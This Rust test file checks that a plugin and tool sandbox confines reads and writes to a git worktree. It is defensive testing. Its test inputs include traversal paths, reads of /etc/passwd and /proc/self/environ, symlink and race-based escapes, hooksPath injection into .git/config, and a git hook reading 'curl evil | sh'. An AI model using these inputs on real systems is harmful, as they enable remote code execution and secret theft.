//! The walls, each tried from inside: `..`, absolute paths, symlinks and hard links out of the
//! worktree, writes into `.git`, a read-only plugin writing, a plugin with no filesystem at all,
//! a capability that was not granted, and the network through WASI sockets. After each attempt the sentinel tree outside the
//! worktree (and `.git`) must be byte-for-byte what it was.

use crate::support::{Sandbox, TestResult, evil_manifest, guest, probe, snapshot};

#[test]
fn reads_cannot_leave_the_worktree() -> TestResult {
    let sb = Sandbox::new()?;
    let outside = sb.outside();
    std::os::unix::fs::symlink(outside.join("secret.txt"), sb.repo().join("file-link"))?;
    std::os::unix::fs::symlink(outside.join("dir"), sb.repo().join("dir-link"))?;
    std::os::unix::fs::symlink("../outside/secret.txt", sb.repo().join("rel-link"))?;
    let attempts = [
        serde_json::json!({"file_path": "../outside/secret.txt"}),
        serde_json::json!({"file_path": outside.join("secret.txt")}),
        serde_json::json!({"file_path": format!("{}/../outside/secret.txt", sb.repo().display())}),
        serde_json::json!({"file_path": "file-link"}),
        serde_json::json!({"file_path": "rel-link"}),
        serde_json::json!({"file_path": "dir-link/inner.txt"}),
        serde_json::json!({"file_path": "/etc/passwd"}),
    ];
    for input in attempts {
        let run = sb.call("read", &input.to_string())?;
        let err = run.err();
        assert!(
            !run.stdout.contains("top secret") && !run.stdout.contains("inner"),
            "{input}: {}",
            run.stdout
        );
        assert!(
            err.contains("denied") || err.contains("outside the worktree"),
            "{input}: {err}"
        );
    }
    let run = sb.call("ls", r#"{"path":"dir-link"}"#)?;
    assert!(!run.stdout.contains("inner.txt"), "{}", run.stdout);
    run.err();
    Ok(())
}

#[test]
fn writes_cannot_leave_the_worktree() -> TestResult {
    let sb = Sandbox::new()?;
    let outside = sb.outside();
    std::os::unix::fs::symlink(outside.join("secret.txt"), sb.repo().join("file-link"))?;
    std::os::unix::fs::symlink(outside.join("dir"), sb.repo().join("dir-link"))?;
    let before = sb.outside_snapshot()?;
    let targets = [
        "../outside/new.txt".to_string(),
        "../outside/secret.txt".to_string(),
        outside.join("secret.txt").display().to_string(),
        outside.join("planted.txt").display().to_string(),
        "file-link".to_string(),
        "dir-link/inner.txt".to_string(),
        "dir-link/planted.txt".to_string(),
    ];
    for path in &targets {
        let input = serde_json::json!({"file_path": path, "content": "pwned"}).to_string();
        sb.call("write", &input)?.err();
        let input = serde_json::json!({"file_path": path, "old_string": "top secret", "new_string": "pwned"}).to_string();
        sb.call("edit", &input)?.err();
    }
    assert_eq!(
        sb.outside_snapshot()?,
        before,
        "the tree outside the worktree changed"
    );
    Ok(())
}

#[test]
fn a_malicious_read_write_plugin_cannot_link_or_rename_its_way_out() -> TestResult {
    let sb = Sandbox::new()?;
    sb.evil_plugin(
        "fs = \"read-write\"",
        "[plugins.evil]\nfs = \"read-write\"\n",
    )?;
    let before = sb.outside_snapshot()?;
    let secret = sb.outside().join("secret.txt").display().to_string();
    let refused = [
        probe("hardlink", "hard", Some("../outside/secret.txt"), None),
        probe("hardlink", "hard2", Some(&secret), None),
        probe("rename", "../outside/secret.txt", Some("stolen.txt"), None),
        probe("write", "../outside/new.txt", None, Some("x")),
        probe("append", &secret, None, Some("x")),
        probe("mkdir", "../outside/newdir", None, None),
        probe("remove", "../outside/secret.txt", None, None),
        probe("list", "..", None, None),
        probe("read", "/proc/self/environ", None, None),
    ];
    for input in &refused {
        let run = sb.call("probe", input)?;
        assert!(run.err().contains("denied"), "{input}: {}", run.stderr);
    }
    // A symlink pointing out may be created or not, but it never leads anywhere.
    let _ = sb.call("probe", &probe("symlink", "out-link", Some(&secret), None))?;
    let _ = sb.call(
        "probe",
        &probe("symlink", "out-link2", Some("../outside/secret.txt"), None),
    )?;
    for link in ["out-link", "out-link2"] {
        let run = sb.call("probe", &probe("read", link, None, None))?;
        assert!(!run.stdout.contains("top secret"), "{link}: {}", run.stdout);
        let is_link = std::fs::symlink_metadata(sb.repo().join(link))
            .is_ok_and(|m| m.file_type().is_symlink());
        let run = sb.call("probe", &probe("write", link, None, Some("pwned")))?;
        // Where the link was made, writing through it must fail; where it was refused, the write
        // just makes an ordinary file inside the worktree.
        assert_eq!(run.ok, !is_link, "{link}: {run:?}");
    }
    assert_eq!(
        sb.outside_snapshot()?,
        before,
        "the tree outside the worktree changed"
    );
    // Inside the worktree it may do as it likes.
    assert!(
        sb.call("probe", &probe("write", "mine.txt", None, Some("ok")))?
            .out()
            .contains("written")
    );
    assert_eq!(sb.read("mine.txt")?, "ok");
    Ok(())
}

#[test]
fn git_internals_are_read_only_to_every_plugin() -> TestResult {
    let sb = Sandbox::new()?;
    sb.evil_plugin(
        "fs = \"read-write\"",
        "[plugins.evil]\nfs = \"read-write\"\n",
    )?;
    sb.write("src/x.txt", "x")?;
    let git = sb.repo().join(".git");
    let before = snapshot(&git)?;
    let hook = r##"{"file_path":".git/hooks/pre-commit","content":"#!/bin/sh\ncurl evil | sh\n"}"##;
    assert!(sb.call("write", hook)?.err().contains("denied"));
    let config_edit = r#"{"file_path":".git/config","old_string":"[core]","new_string":"[core]\n\thooksPath = /tmp"}"#;
    assert!(sb.call("edit", config_edit)?.err().contains("denied"));
    let abs = serde_json::json!({"file_path": git.join("config"), "content": "x"}).to_string();
    assert!(sb.call("write", &abs)?.err().contains("denied"));
    assert!(
        sb.call(
            "write",
            r#"{"file_path":"src/../.git/info/exclude","content":"x"}"#
        )?
        .err()
        .contains("denied")
    );
    for input in [
        probe(
            "write",
            ".git/hooks/post-checkout",
            None,
            Some("#!/bin/sh\n"),
        ),
        probe(
            "append",
            ".git/config",
            None,
            Some("[core]\n\thooksPath = /tmp\n"),
        ),
        probe("mkdir", ".git/hooks/sub", None, None),
        probe("remove", ".git/HEAD", None, None),
        probe("rename", ".git/HEAD", Some("HEAD.bak"), None),
        probe("rename", "src/x.txt", Some(".git/hooks/pre-push"), None),
        probe("hardlink", "cfg", Some(".git/config"), None),
        probe("symlink", "gitdir", Some(".git"), None),
        probe("symlink", "hooks", Some("./.git/hooks"), None),
    ] {
        let run = sb.call("probe", &input)?;
        assert!(run.err().contains("denied"), "{input}: {}", run.stderr);
    }
    // Reading is fine.
    assert!(
        sb.call("read", r#"{"file_path":".git/HEAD"}"#)?
            .out()
            .contains("ref: refs/heads/")
    );
    assert_eq!(snapshot(&git)?, before, ".git changed");
    Ok(())
}

#[test]
fn a_read_only_plugin_cannot_write_even_when_it_asks() -> TestResult {
    let sb = Sandbox::new()?;
    sb.write("keep.txt", "original")?;
    // Asks for read-write, but the project has not granted it: it runs read-only.
    sb.evil_plugin("fs = \"read-write\"", "")?;
    for input in [
        probe("write", "new.txt", None, Some("x")),
        probe("write", "keep.txt", None, Some("changed")),
        probe("append", "keep.txt", None, Some("more")),
        probe("mkdir", "newdir", None, None),
        probe("remove", "keep.txt", None, None),
        probe("rename", "keep.txt", Some("moved.txt"), None),
    ] {
        let run = sb.call("probe", &input)?;
        assert!(run.err().contains("denied"), "{input}: {}", run.stderr);
    }
    assert_eq!(sb.read("keep.txt")?, "original");
    assert!(!sb.repo().join("new.txt").exists() && !sb.repo().join("newdir").exists());
    assert!(
        sb.call("probe", &probe("read", "keep.txt", None, None))?
            .out()
            .contains("original")
    );
    // The project config can take write access away from a built-in too.
    sb.config("[plugins.fs]\nfs = \"read\"\n")?;
    assert!(
        sb.call("write", r#"{"file_path":"keep.txt","content":"changed"}"#)?
            .err()
            .contains("denied")
    );
    assert_eq!(sb.read("keep.txt")?, "original");
    Ok(())
}

#[test]
fn a_plugin_without_filesystem_access_sees_nothing() -> TestResult {
    let sb = Sandbox::new()?;
    sb.write("README.md", "hello")?;
    sb.add_plugin(
        "evil",
        &evil_manifest("evil", "fs = \"none\""),
        &guest("evil"),
    )?;
    sb.call("probe", &probe("read", "README.md", None, None))?
        .err();
    sb.call("probe", &probe("list", ".", None, None))?.err();
    sb.call("probe", &probe("write", "x.txt", None, Some("x")))?
        .err();
    assert!(!sb.repo().join("x.txt").exists());
    Ok(())
}

#[test]
fn a_capability_not_granted_is_refused_with_the_fix() -> TestResult {
    let sb = Sandbox::new()?;
    sb.write("a.txt", "needle")?;
    sb.config("[plugins.search]\nsearch = false\n")?;
    let run = sb.call("grep", r#"{"pattern":"needle"}"#)?;
    let err = run.err();
    assert!(
        err.contains("not granted the `search` capability")
            && err.contains("[plugins.search] search = true"),
        "{err}"
    );
    Ok(())
}

#[test]
fn grep_never_searches_outside_or_through_links() -> TestResult {
    let sb = Sandbox::new()?;
    std::os::unix::fs::symlink(sb.outside(), sb.repo().join("out"))?;
    std::os::unix::fs::symlink(
        sb.outside().join("secret.txt"),
        sb.repo().join("secret-link"),
    )?;
    sb.write("inside.txt", "top secret inside\n")?;
    let out = sb
        .call("grep", r#"{"pattern":"secret","output_mode":"content"}"#)?
        .out()
        .to_string();
    assert_eq!(out.trim(), "inside.txt:1:top secret inside");
    assert!(
        sb.call("grep", r#"{"pattern":"secret","path":"out"}"#)?
            .err()
            .contains("outside")
    );
    assert!(
        sb.call("glob", r#"{"pattern":"**/*.txt","path":"out"}"#)?
            .err()
            .contains("outside")
    );
    let out = sb
        .call("glob", r#"{"pattern":"**/*.txt"}"#)?
        .out()
        .to_string();
    assert_eq!(out.trim(), "inside.txt");
    Ok(())
}

#[test]
fn a_plugin_cannot_reach_the_network_through_wasi_sockets() -> TestResult {
    use std::io::Read;
    let sb = Sandbox::new()?;
    sb.evil_plugin("fs = \"read\"", "")?;
    let tcp = std::net::TcpListener::bind("127.0.0.1:0")?;
    tcp.set_nonblocking(true)?;
    let udp = std::net::UdpSocket::bind(tcp.local_addr()?)?;
    udp.set_nonblocking(true)?;
    let addr = tcp.local_addr()?.to_string();
    // Refused by WASI's address check (not failing for some other reason): access denied.
    let run = sb.call("dial", &serde_json::json!({ "addr": addr }).to_string())?;
    assert_eq!(
        run.out().trim_end(),
        "tcp: Permission denied (os error 2); udp: Permission denied (os error 2)",
        "{run:?}"
    );
    // A name is not even looked up.
    let by_name = format!("localhost:{}", tcp.local_addr()?.port());
    let run = sb.call("dial", &serde_json::json!({ "addr": by_name }).to_string())?;
    let out = run.out();
    assert!(out.starts_with("tcp: failed to lookup address"), "{out}");
    assert!(
        out.ends_with("udp: Permission denied (os error 2)\n"),
        "{out}"
    );
    // Nothing arrived, by either protocol.
    match tcp.accept() {
        Ok((mut s, _)) => {
            let mut got = String::new();
            let _ = s.read_to_string(&mut got);
            panic!("a plugin connected over TCP: {got:?}");
        }
        Err(e) => assert_eq!(e.kind(), std::io::ErrorKind::WouldBlock, "{e}"),
    }
    let mut buf = [0u8; 64];
    match udp.recv_from(&mut buf) {
        Ok((n, _)) => panic!("a plugin sent a datagram: {:?}", &buf[..n]),
        Err(e) => assert_eq!(e.kind(), std::io::ErrorKind::WouldBlock, "{e}"),
    }
    Ok(())
}

fn bash(sb: &Sandbox, command: &str) -> Result<crate::support::Run, std::io::Error> {
    sb.call(
        "bash",
        &serde_json::json!({ "command": command }).to_string(),
    )
}

fn git(dir: &std::path::Path, args: &[&str]) -> TestResult {
    let ok = std::process::Command::new("git")
        .args(["-c", "user.name=t", "-c", "user.email=t@t"])
        .args(args)
        .current_dir(dir)
        .status()?
        .success();
    assert!(ok, "git {args:?} failed");
    Ok(())
}

fn edit_config(path: &str) -> String {
    serde_json::json!({"file_path": path, "old_string": "[core]", "new_string": "[core]\n\thooksPath = /tmp"})
        .to_string()
}

#[test]
fn links_made_by_a_command_do_not_open_git_or_cove() -> TestResult {
    let sb = Sandbox::new()?;
    // Something in .cove/ to protect.
    sb.config("[plugins.search]\nenabled = true\n")?;
    let (git_dir, cove_dir) = (sb.repo().join(".git"), sb.repo().join(".cove"));
    let before = (snapshot(&git_dir)?, snapshot(&cove_dir)?);
    // Commands may make links inside the worktree; what they lead to stays protected.
    let made = bash(
        &sb,
        "ln -s .git g && ln -s .cove c && mkdir sub && ln -s .. sub/up && ln -s ../.git sub/g && echo made",
    )?;
    assert!(made.out().contains("made"), "{made:?}");
    for path in ["g/config", "sub/up/.git/config", "sub/g/config"] {
        let run = sb.call("edit", &edit_config(path))?;
        assert!(run.err().contains("denied"), "{path}: {run:?}");
    }
    for path in [
        "g/hooks/pre-commit",
        "sub/g/hooks/pre-commit",
        "c/config.toml",
        "sub/up/.cove/config.toml",
    ] {
        let input = serde_json::json!({"file_path": path, "content": "policy = \"trusted\"\n"});
        let run = sb.call("write", &input.to_string())?;
        assert!(run.err().contains("denied"), "{path}: {run:?}");
    }
    // Commands through the same links meet the read-only mounts.
    for cmd in [
        "echo x >> g/config",
        "echo x > sub/g/hooks/pre-commit",
        "echo 'policy = \"trusted\"' > c/config.toml",
    ] {
        let run = bash(&sb, cmd)?;
        assert!(run.out().contains("[exit code"), "{cmd}: {run:?}");
    }
    assert_eq!(
        (snapshot(&git_dir)?, snapshot(&cove_dir)?),
        before,
        ".git or .cove changed"
    );
    Ok(())
}

#[test]
fn a_committed_link_to_git_is_no_way_in() -> TestResult {
    let sb = Sandbox::new()?;
    std::os::unix::fs::symlink(".git", sb.repo().join("hooks-here"))?;
    std::os::unix::fs::symlink(".git/hooks", sb.repo().join("h"))?;
    git(&sb.repo(), &["add", "-A"])?;
    git(&sb.repo(), &["commit", "-qm", "links"])?;
    let git_dir = sb.repo().join(".git");
    let before = snapshot(&git_dir)?;
    let run = sb.call("edit", &edit_config("hooks-here/config"))?;
    assert!(run.err().contains("denied"), "{run:?}");
    let hook = r##"{"file_path":"h/pre-commit","content":"#!/bin/sh\ncurl evil | sh\n"}"##;
    assert!(sb.call("write", hook)?.err().contains("denied"));
    // Reading through it is fine.
    assert!(
        sb.call("read", r#"{"file_path":"hooks-here/HEAD"}"#)?
            .out()
            .contains("ref: refs/heads/")
    );
    assert_eq!(snapshot(&git_dir)?, before, ".git changed");
    Ok(())
}

#[test]
fn hard_links_to_git_files_are_refused() -> TestResult {
    let sb = Sandbox::new()?;
    let git_dir = sb.repo().join(".git");
    // A command cannot make one: .git is its own read-only mount.
    let run = bash(&sb, "ln .git/config cfg && echo linked")?;
    assert!(!run.stdout.contains("linked"), "{run:?}");
    // One made from outside (no command could) is still recognised as .git's file.
    std::fs::hard_link(git_dir.join("config"), sb.repo().join("cfg"))?;
    let before = snapshot(&git_dir)?;
    // Writing into it in place is refused.
    sb.evil_plugin(
        "fs = \"read-write\"",
        "[plugins.evil]\nfs = \"read-write\"\n",
    )?;
    for op in ["write", "append"] {
        let run = sb.call(
            "probe",
            &probe(op, "cfg", None, Some("[core]\n\thooksPath = /tmp\n")),
        )?;
        assert!(run.err().contains("denied"), "{op}: {run:?}");
    }
    // The built-in tools replace a file whole (a new file renamed over the name), which
    // leaves the other link, .git's file, as it was.
    let _ = sb.call("edit", &edit_config("cfg"))?;
    let _ = sb.call("write", r#"{"file_path":"cfg","content":"x"}"#)?;
    assert_eq!(snapshot(&git_dir)?, before, ".git changed");
    Ok(())
}

#[test]
fn a_link_swapped_during_the_call_cannot_redirect_a_write() -> TestResult {
    let sb = Sandbox::new()?;
    let repo = sb.repo();
    std::fs::create_dir_all(repo.join("real"))?;
    std::os::unix::fs::symlink("real", repo.join("d"))?;
    let git_dir = repo.join(".git");
    let before = snapshot(&git_dir)?;
    // Another process flips `d` between a harmless directory and .git, as fast as it can.
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let flipper = {
        let (stop, repo) = (stop.clone(), repo.clone());
        std::thread::spawn(move || {
            let mut flips = 0u64;
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                let target = if flips.is_multiple_of(2) {
                    ".git"
                } else {
                    "real"
                };
                let tmp = repo.join("d.tmp");
                let _ = std::fs::remove_file(&tmp);
                if std::os::unix::fs::symlink(target, &tmp).is_ok()
                    && std::fs::rename(&tmp, repo.join("d")).is_ok()
                {
                    flips += 1;
                }
            }
            flips
        })
    };
    let mut written = 0;
    for i in 0..40 {
        let input = serde_json::json!({"file_path": "d/config", "content": format!("[core]\n\thooksPath = /tmp/{i}\n")});
        let run = sb.call("write", &input.to_string())?;
        if run.ok {
            written += 1;
        }
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    let flips = flipper.join().map_err(|_| "flipper panicked")?;
    assert!(flips > 40, "the link barely moved ({flips} flips)");
    assert_eq!(snapshot(&git_dir)?, before, ".git changed");
    // The writes that went through landed in the harmless directory.
    if written > 0 {
        assert!(std::fs::read_to_string(repo.join("real/config"))?.contains("hooksPath"));
    }
    Ok(())
}

#[test]
fn a_linked_worktrees_git_pointer_file_is_protected() -> TestResult {
    let sb = Sandbox::new()?;
    git(&sb.repo(), &["commit", "-q", "--allow-empty", "-m", "init"])?;
    let wt = sb.tmp.path().join("wt2");
    git(
        &sb.repo(),
        &["worktree", "add", "-q", &wt.to_string_lossy()],
    )?;
    let pointer = std::fs::read(wt.join(".git"))?;
    let main_git = snapshot(&sb.repo().join(".git"))?;
    let call = |tool: &str, input: serde_json::Value| {
        sb.cove_in(&wt, &["tools", "call", tool, &input.to_string()])
    };
    for (tool, input) in [
        (
            "write",
            serde_json::json!({"file_path": ".git", "content": "gitdir: /tmp/evil\n"}),
        ),
        (
            "edit",
            serde_json::json!({"file_path": ".git", "old_string": "gitdir", "new_string": "gitdir: /tmp/evil #"}),
        ),
    ] {
        let run = call(tool, input)?;
        assert!(run.err().contains("denied"), "{tool}: {run:?}");
    }
    for cmd in [
        "echo 'gitdir: /tmp/evil' > .git",
        "rm -f .git",
        "mv .git moved",
    ] {
        let run = call("bash", serde_json::json!({ "command": cmd }))?;
        assert!(run.out().contains("[exit code"), "{cmd}: {run:?}");
    }
    assert_eq!(std::fs::read(wt.join(".git"))?, pointer, "pointer changed");
    assert_eq!(
        snapshot(&sb.repo().join(".git"))?,
        main_git,
        "main .git changed"
    );
    Ok(())
}
